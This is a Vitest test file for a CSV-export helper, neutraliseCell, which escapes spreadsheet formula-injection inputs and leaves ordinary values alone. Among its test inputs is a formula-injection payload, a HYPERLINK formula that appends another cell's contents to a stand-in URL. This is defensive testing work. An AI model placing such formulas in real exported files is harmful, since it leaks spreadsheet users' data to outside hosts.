import { describe, expect, it } from 'vitest'
import { neutraliseCell } from './csv.ts'

describe('neutraliseCell (issue 34 §5)', () => {
  it.each(['=1+1', '+1', '-2+3', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '-', '=HYPERLINK("https://x.test/"&C3,"open")'])('quotes %j', (cell) => {
    expect(neutraliseCell(cell)).toBe(`'${cell}`)
  })
  it.each(['-150.00', '-2', '150.00', '0', 'pgsoft', 'โปรรายงาน', 'a=b', ''])('leaves %j as it is', (cell) => {
    expect(neutraliseCell(cell)).toBe(cell)
  })
})
